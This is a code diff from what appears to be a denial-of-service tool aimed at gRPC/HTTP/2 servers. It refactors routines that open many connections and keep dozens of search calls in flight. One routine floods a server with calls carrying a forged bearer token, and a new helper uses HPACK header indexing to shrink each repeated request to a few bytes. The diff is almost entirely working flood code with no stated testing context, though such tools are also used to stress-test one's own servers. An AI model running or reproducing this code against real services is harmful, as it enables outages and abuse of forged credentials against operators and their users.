@@ -48,10 +48,11 @@ async def refused(attack: Attack) -> None:
     Options: `metadata`.
     """
     options = attack.options
-    block = frames.request_headers(SEARCH, attack.address, metadata=options.get("metadata", ()))
+    first, repeated = _indexed(attack, options.get("metadata", ()))
     opened = [await attack.connect() for _ in range(options.get("connections", 1))]
     for connection in opened:
-        _keep_in_flight(connection, block, options.get("in_flight", 32))
+        connection.call_with(first, end=False)
+        _keep_in_flight(connection, repeated, options.get("in_flight", 32))
     attack.is_on()
     await asyncio.gather(*(one.gone.wait() for one in opened))
 
@@ -59,11 +60,7 @@ async def refused(attack: Attack) -> None:
 async def forged_tokens(attack: Attack) -> None:
     """`calls` searches with the forged token `token` at once, which take 16 bytes each once the server knows it."""
     options = attack.options
-    named = [(":path", SEARCH), (":authority", attack.address), ("te", "trailers"), ("content-type", "application/grpc")]
-    named.append(("authorization", f"Bearer {options['token']}"))
-    first = b"\x83\x86" + b"".join(frames.indexed_field(name, value) for name, value in named)
-    # The static table ends at 61; what came last stands first behind it.
-    repeated = b"\x83\x86" + bytes(0x80 | 62 + number for number in range(len(named)))
+    first, repeated = _indexed(attack, [("authorization", f"Bearer {options['token']}")])
     opened = [await attack.connect() for _ in range((options["calls"] + 63) // 64)]
     for number in range(options["calls"]):
         opened[number // 64].call_with(repeated if number % 64 else first, end=False)
@@ -87,6 +84,15 @@ async def calls(attack: Attack) -> None:
                 connection.call_with(block, body)
         made = due
         await asyncio.sleep(0.002)
+
+
+def _indexed(attack: Attack, metadata: frames.Metadata) -> tuple[bytes, bytes]:
+    """A search's headers for a connection's first call, and for all further ones: a byte for each."""
+    named = [(":path", SEARCH), (":authority", attack.address), ("te", "trailers"), ("content-type", "application/grpc")]
+    named += [(name, value) for name, value in metadata]
+    first = b"\x83\x86" + b"".join(frames.indexed_field(name, value) for name, value in named)
+    # The static table ends at 61; what came last stands first behind it.
+    return first, b"\x83\x86" + bytes(0x80 | 62 + number for number in range(len(named)))
 
 
 def _keep_in_flight(connection: RawConnection, block: bytes, count: int) -> None:
